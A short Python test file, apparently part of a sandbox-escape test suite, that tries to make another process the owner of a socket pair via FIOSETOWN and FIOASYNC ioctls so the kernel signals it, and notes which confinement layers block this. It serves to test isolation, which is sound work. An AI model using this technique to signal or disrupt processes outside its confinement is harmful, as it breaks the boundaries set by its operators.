"""Makes another process the owner of a socket, so that the kernel signals it.

kind: signals and other processes
stopped by: bubblewrap landlock(6) seccomp
changes: victim
seen: outside
"""

import fcntl
import socket
import struct

from prelude import any_of


def attack() -> bool:
    def own(pid: int, *_: int) -> bool:
        ours, theirs = socket.socketpair()
        fcntl.ioctl(ours, 0x8901, struct.pack("@i", pid))  # FIOSETOWN
        fcntl.ioctl(ours, 0x5452, struct.pack("@i", 1))  # FIOASYNC
        return theirs.send(b"x") == 1

    return any_of(own, "@VICTIMS@")
